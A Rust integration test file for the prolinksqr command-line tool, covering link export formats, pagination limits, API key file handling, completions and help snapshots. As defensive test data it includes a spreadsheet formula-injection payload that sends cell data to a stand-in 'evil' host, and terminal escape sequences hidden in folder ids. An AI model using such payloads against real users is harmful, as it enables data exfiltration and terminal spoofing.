//! The `prolinksqr` binary: where the key comes from, completions, `links export`, help.

mod common;

use common::{KEY, run, run_with_input, temp_dir};
use serde_json::json;
use wiremock::matchers::{header, method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

fn link(n: u32) -> serde_json::Value {
    json!({
        "dynamic_link_id": format!("l-{n}"),
        "full_dynamic_url": format!("https://qr-lb.co/l-{n}"),
        "name": format!("Link, {n}"),
        "type": "website",
        "meta_data": {"url": format!("https://example.com/{n}")},
        "folder_id": if n == 1 { json!("f-1") } else { json!(null) },
        "created_at": "Jun 24, 2026",
    })
}

async fn links_server() -> MockServer {
    let server = MockServer::start().await;
    for (page, links) in [(1, vec![link(1), link(2)]), (2, vec![link(3)])] {
        Mock::given(method("GET"))
            .and(path("/links"))
            .and(query_param("page", page.to_string()))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({
                "data": links,
                "meta": {"currentPage": page, "totalPages": 2},
            })))
            .expect(1)
            .mount(&server)
            .await;
    }
    server
}

#[tokio::test]
async fn links_export_writes_every_page_as_csv() {
    let server = links_server().await;
    let out = run(
        &temp_dir("export"),
        &server.uri(),
        Some(KEY),
        &[
            "links", "export", "--all", "--size", "1000", "--folder", "f-1",
        ],
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stdout,
        // Export's own columns: with the destination (`meta_data.url`) and the folder.
        "dynamic_link_id,name,type,full_dynamic_url,destination_url,folder_id,created_at\n\
         l-1,\"Link, 1\",website,https://qr-lb.co/l-1,https://example.com/1,f-1,\"Jun 24, 2026\"\n\
         l-2,\"Link, 2\",website,https://qr-lb.co/l-2,https://example.com/2,,\"Jun 24, 2026\"\n\
         l-3,\"Link, 3\",website,https://qr-lb.co/l-3,https://example.com/3,,\"Jun 24, 2026\"\n"
    );
    let queries: Vec<_> = server
        .received_requests()
        .await
        .unwrap()
        .iter()
        .map(|r| (r.url.path().to_owned(), r.url.query().map(str::to_owned)))
        .collect();
    assert_eq!(
        queries,
        [
            (
                "/links".to_owned(),
                Some("page=1&size=1000&folder=f-1".to_owned())
            ),
            (
                "/links".to_owned(),
                Some("page=2&size=1000&folder=f-1".to_owned())
            ),
        ]
    );
}

#[tokio::test]
async fn links_export_output_json_is_one_array() {
    let server = links_server().await;
    let out = run(
        &temp_dir("export-json"),
        &server.uri(),
        Some(KEY),
        &["links", "export", "--output", "json"],
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    let links: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let names: Vec<_> = links
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["dynamic_link_id"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["l-1", "l-2", "l-3"]);
}

#[tokio::test]
async fn the_key_file_wins_over_the_environment() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/links"))
        .and(header("authorization", "Basic key-from-file"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "data": [], "meta": {"currentPage": 1, "totalPages": 1},
        })))
        .expect(1)
        .mount(&server)
        .await;
    let dir = temp_dir("key-file");
    std::fs::write(dir.join("key.txt"), "  key-from-file\n").unwrap();

    let out = run(
        &dir,
        &server.uri(),
        Some("key-from-env"),
        &[
            "--api-key-file",
            "key.txt",
            "links",
            "export",
            "--output",
            "json",
        ],
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, "[]\n");
    assert!(!out.stderr.contains("key-from"));
}

#[tokio::test]
async fn no_key_is_a_usage_error_and_nothing_is_sent() {
    let server = MockServer::start().await;
    let dir = temp_dir("no-key");
    std::fs::write(dir.join("in.csv"), common::website_csv(1)).unwrap();
    std::fs::write(dir.join("empty.txt"), "\n").unwrap();

    let out = run(&dir, &server.uri(), None, &["links", "export"]).await;
    assert_eq!(out.code, 2);
    assert_eq!(
        out.stderr,
        "error: no API key: set PROLINKSQR_API_KEY or pass --api-key-file PATH\n"
    );
    let out = run(
        &dir,
        &server.uri(),
        None,
        &[
            "bulk",
            "import",
            "in.csv",
            "--type",
            "website",
            "--api-key-file",
            "empty.txt",
        ],
    )
    .await;
    assert_eq!(out.code, 2);
    assert_eq!(out.stderr, "error: the API key file empty.txt is empty\n");
    let out = run(&dir, &server.uri(), Some("   "), &["links", "export"]).await;
    assert_eq!(out.code, 2);
    assert_eq!(server.received_requests().await.unwrap().len(), 0);
}

#[tokio::test]
async fn bad_arguments_exit_2() {
    let dir = temp_dir("bad-args");
    let out = run(
        &dir,
        "http://127.0.0.1:9",
        Some(KEY),
        &["bulk", "import", "x.csv", "--type", "email"],
    )
    .await;
    assert_eq!(out.code, 2);
    assert!(
        out.stderr
            .contains("invalid value 'email' for '--type <type>'"),
        "{}",
        out.stderr
    );
    let out = run(
        &dir,
        "http://127.0.0.1:9",
        Some(KEY),
        &["bulk", "import", "x.csv", "--type", "sms", "--skip-unknown"],
    )
    .await;
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("--resume <RESULT.csv>"),
        "{}",
        out.stderr
    );
}

#[tokio::test]
async fn completions_need_no_key_and_name_the_subcommands() {
    let dir = temp_dir("completions");
    for shell in ["bash", "zsh", "fish"] {
        let out = run(&dir, "http://127.0.0.1:9", None, &["completions", shell]).await;
        assert_eq!(out.code, 0, "{}", out.stderr);
        for word in [
            "prolinksqr",
            "bulk",
            "import",
            "links",
            "export",
            "api-key-file",
            "resume",
        ] {
            assert!(out.stdout.contains(word), "{shell} completions lack {word}");
        }
    }
}

#[tokio::test]
async fn help_snapshots() {
    let dir = temp_dir("help");
    let root = run(&dir, "http://127.0.0.1:9", None, &["--help"]).await;
    assert_eq!(root.code, 0, "{}", root.stderr);
    insta::assert_snapshot!("root_help", root.stdout);
    let import = run(
        &dir,
        "http://127.0.0.1:9",
        None,
        &["bulk", "import", "--help"],
    )
    .await;
    assert_eq!(import.code, 0, "{}", import.stderr);
    insta::assert_snapshot!("bulk_import_help", import.stdout);
    let export = run(
        &dir,
        "http://127.0.0.1:9",
        None,
        &["links", "export", "--help"],
    )
    .await;
    assert_eq!(export.code, 0, "{}", export.stderr);
    insta::assert_snapshot!("links_export_help", export.stdout);
}

#[tokio::test]
async fn generated_commands_run_through_the_same_binary() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/folders"))
        .and(header("authorization", format!("Basic {KEY}").as_str()))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({"data": {"id": "f-9", "name": "Campaigns"}})),
        )
        .expect(1)
        .mount(&server)
        .await;

    let out = run(
        &temp_dir("generated"),
        &server.uri(),
        Some(KEY),
        &["folders", "create", "--name", "Campaigns"],
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, "{\"id\":\"f-9\",\"name\":\"Campaigns\"}\n");
    let requests = server.received_requests().await.unwrap();
    assert_eq!(requests.len(), 1);
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&requests[0].body).unwrap(),
        json!({"name": "Campaigns"})
    );
}

/// `--body -`: the request body read from standard input (YAML here), sent as JSON.
#[tokio::test]
async fn a_body_from_standard_input() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/folders"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({"data": {"id": "f-7", "name": "From stdin"}})),
        )
        .expect(1)
        .mount(&server)
        .await;

    let out = run_with_input(
        &temp_dir("stdin"),
        &server.uri(),
        Some(KEY),
        &["folders", "create", "--body", "-"],
        Some("name: From stdin\n"),
    )
    .await;

    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, "{\"id\":\"f-7\",\"name\":\"From stdin\"}\n");
    let requests = server.received_requests().await.unwrap();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].url.path(), "/folders");
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&requests[0].body).unwrap(),
        json!({"name": "From stdin"})
    );
}

/// `--output` before `links` (the root's) and after `export` (export's own, whose default
/// is CSV) both choose the format.
#[tokio::test]
async fn links_export_output_is_taken_before_or_after_the_subcommand() {
    let server = links_server_times(3).await;
    let dir = temp_dir("export-formats");
    let before = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &["--output", "json", "links", "export"],
    )
    .await;
    assert_eq!(before.code, 0, "{}", before.stderr);
    assert!(before.stdout.starts_with("[\n{"), "{}", before.stdout);
    let table = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &["links", "export", "--output", "table"],
    )
    .await;
    assert_eq!(table.code, 0, "{}", table.stderr);
    assert_eq!(
        table.stdout.lines().next(),
        Some(
            "dynamic_link_id  name     type     full_dynamic_url      destination_url        \
             folder_id  created_at"
        )
    );
    let default = run(&dir, &server.uri(), Some(KEY), &["links", "export"]).await;
    assert!(
        default.stdout.starts_with("dynamic_link_id,name,"),
        "{}",
        default.stdout
    );
}

async fn links_server_times(runs: u64) -> MockServer {
    let server = MockServer::start().await;
    for (page, links) in [(1, vec![link(1), link(2)]), (2, vec![link(3)])] {
        Mock::given(method("GET"))
            .and(path("/links"))
            .and(query_param("page", page.to_string()))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({
                "data": links,
                "meta": {"currentPage": page, "totalPages": 2},
            })))
            .expect(runs)
            .mount(&server)
            .await;
    }
    server
}

/// A server answering every `GET /links` with `links` as page 1 of `total_pages`.
async fn one_page_server(links: Vec<serde_json::Value>, total_pages: i64) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/links"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "data": links, "meta": {"currentPage": 1, "totalPages": total_pages},
        })))
        .mount(&server)
        .await;
    server
}

/// `prolinksqr links export` in a fresh folder `dir` against `server`.
async fn export(dir: &str, server: &MockServer) -> common::Run {
    run(
        &temp_dir(dir),
        &server.uri(),
        Some(KEY),
        &["links", "export"],
    )
    .await
}

/// A link whose name, id and destination a spreadsheet would run as formulas.
#[tokio::test]
async fn links_export_quotes_cells_that_would_be_formulas() {
    let mut evil = link(1);
    evil["name"] = json!(r#"=HYPERLINK("http://evil/?"&A1,"x")"#);
    evil["dynamic_link_id"] = json!("@l-1");
    evil["meta_data"]["url"] = json!("+https://example.com");
    evil["folder_id"] = json!("-f");
    let server = one_page_server(vec![evil], 1).await;
    let out = export("export-formula", &server).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stdout,
        "dynamic_link_id,name,type,full_dynamic_url,destination_url,folder_id,created_at\n\
         '@l-1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",website,https://qr-lb.co/l-1,\
         '+https://example.com,'-f,\"Jun 24, 2026\"\n"
    );
}

/// A page number the server answers for, with a new link on each, and `totalPages` at
/// `i64::MAX` (a server that never says "last page").
fn endless(request: &wiremock::Request) -> ResponseTemplate {
    let page: u32 = request
        .url
        .query_pairs()
        .find(|(k, _)| k == "page")
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(1);
    ResponseTemplate::new(200).set_body_json(json!({
        "data": [link(page)],
        "meta": {"currentPage": page, "totalPages": i64::MAX},
    }))
}

#[tokio::test]
async fn links_export_of_an_endless_list_stops_at_max_pages_with_an_error() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/links"))
        .respond_with(endless)
        .mount(&server)
        .await;
    let out = run(
        &temp_dir("export-endless"),
        &server.uri(),
        Some(KEY),
        &["links", "export", "--max-pages", "3"],
    )
    .await;
    assert_eq!(out.code, 1);
    assert_eq!(
        out.stderr,
        "error: the list has more than 3 pages, the most --max-pages allows: pass \
         --max-pages N with a larger N to fetch them all\n"
    );
    // The pages before the limit are written.
    assert_eq!(out.stdout.lines().count(), 4, "{}", out.stdout);
    assert_eq!(server.received_requests().await.unwrap().len(), 3);
}

#[tokio::test]
async fn links_export_stops_at_a_repeated_page() {
    let server = one_page_server(vec![link(1), link(2)], i64::MAX).await;
    let out = export("export-repeat", &server).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout.lines().count(), 3, "{}", out.stdout);
    assert_eq!(server.received_requests().await.unwrap().len(), 2);
}

/// A server that knows the key exactly; anything else (a BOM in front of it) is a 401.
async fn key_server(key: &str) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/links"))
        .and(header("authorization", format!("Basic {key}").as_str()))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "data": [], "meta": {"currentPage": 1, "totalPages": 1},
        })))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(401).set_body_json(json!({"message": "bad key"})))
        .mount(&server)
        .await;
    server
}

#[cfg(unix)]
fn write_key(path: &std::path::Path, content: &[u8], mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, content).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[cfg(unix)]
#[tokio::test]
async fn a_key_file_loses_its_byte_order_mark_and_warns_when_others_can_read_it() {
    let server = key_server("key-bom").await;
    let dir = temp_dir("key-bom");
    let export = [
        "--api-key-file",
        "key.txt",
        "links",
        "export",
        "--output",
        "json",
    ];
    write_key(
        &dir.join("key.txt"),
        "\u{feff}key-bom\r\n".as_bytes(),
        0o600,
    );
    let out = run(&dir, &server.uri(), None, &export).await;
    assert_eq!(
        (out.code, out.stdout.as_str()),
        (0, "[]\n"),
        "{}",
        out.stderr
    );
    assert_eq!(out.stderr, "");

    write_key(&dir.join("key.txt"), b"key-bom\n", 0o644);
    let out = run(&dir, &server.uri(), None, &export).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stderr,
        "warning: the API key file key.txt is open to other users (mode 644); run \
         `chmod 600 key.txt`\n"
    );
    assert!(!out.stderr.contains("key-bom"));
}

#[cfg(unix)]
#[tokio::test]
async fn a_key_file_must_be_a_small_regular_file() {
    let server = one_page_server(vec![], 1).await;
    let dir = temp_dir("key-limits");
    write_key(&dir.join("big.txt"), &vec![b'k'; 64 * 1024 + 1], 0o600);
    std::fs::create_dir_all(dir.join("folder")).unwrap();
    for (file, message) in [
        (
            "/dev/zero",
            "error: the API key file /dev/zero is not a regular file\n",
        ),
        (
            "folder",
            "error: the API key file folder is not a regular file\n",
        ),
        (
            "big.txt",
            "error: the API key file big.txt is larger than 64 KiB: not a key file\n",
        ),
    ] {
        let out = run(
            &dir,
            &server.uri(),
            Some(KEY),
            &["--api-key-file", file, "links", "export"],
        )
        .await;
        assert_eq!((out.code, out.stderr.as_str()), (2, message));
    }
    // Exactly the limit is a key (a long one, but read).
    write_key(&dir.join("big.txt"), &vec![b'k'; 64 * 1024], 0o600);
    let out = run(
        &dir,
        &server.uri(),
        None,
        &["--api-key-file", "big.txt", "links", "export"],
    )
    .await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(server.received_requests().await.unwrap().len(), 1);
}

/// Folder ids from the server in the "named twice" message: the escape sequences in them
/// (a title change, a C1 CSI, a right-to-left override) are shown, not acted on.
#[tokio::test]
async fn messages_show_server_text_escaped() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/folders"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": [
            {"id": "f\u{1b}]0;owned\u{7}", "name": "Twice"},
            {"id": "f\u{9b}2J\u{202e}", "name": "Twice"},
        ]})))
        .mount(&server)
        .await;
    let dir = temp_dir("escaped-message");
    std::fs::write(dir.join("in.csv"), common::website_csv(1)).unwrap();
    let out = run(
        &dir,
        &server.uri(),
        Some(KEY),
        &[
            "bulk", "import", "in.csv", "--type", "website", "--folder", "Twice",
        ],
    )
    .await;
    assert_eq!(out.code, 2);
    assert_eq!(
        out.stderr,
        "error: 2 folders are named \"Twice\" (f\\u{1b}]0;owned\\u{7}, f\\u{9b}2J\\u{202e}): \
         pass the id instead\n"
    );
}

#[tokio::test]
async fn drift_log_records_where_responses_differ_from_the_spec() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/folders"))
        .and(header("authorization", format!("Basic {KEY}").as_str()))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "data": [{"id": "f-1", "name": "Spring", "color": "blue"}],
        })))
        .expect(2)
        .mount(&server)
        .await;
    let dir = temp_dir("drift-log");
    for run_number in 1..=2 {
        let out = run(
            &dir,
            &server.uri(),
            Some(KEY),
            &["folders", "list", "--drift-log", "drift.json"],
        )
        .await;
        assert_eq!(out.code, 0, "{}", out.stderr);
        let printed: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
        assert_eq!(printed[0]["name"], "Spring", "the output is unchanged");
        let log: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(dir.join("drift.json")).unwrap())
                .unwrap();
        let records = log["records"].as_array().unwrap();
        assert_eq!(records.len(), 1, "{log:#}");
        assert_eq!(records[0]["operation"], "listFolders");
        assert_eq!(records[0]["path"], "/folders");
        assert_eq!(records[0]["pointer"], "/data/*/color");
        assert_eq!(records[0]["kind"], "unknown_field");
        assert_eq!(records[0]["seen"], json!({"type": "string"}));
        assert_eq!(records[0]["count"], run_number);
    }
    let text = std::fs::read_to_string(dir.join("drift.json")).unwrap();
    assert!(!text.contains("blue") && !text.contains("Spring") && !text.contains(KEY));
}
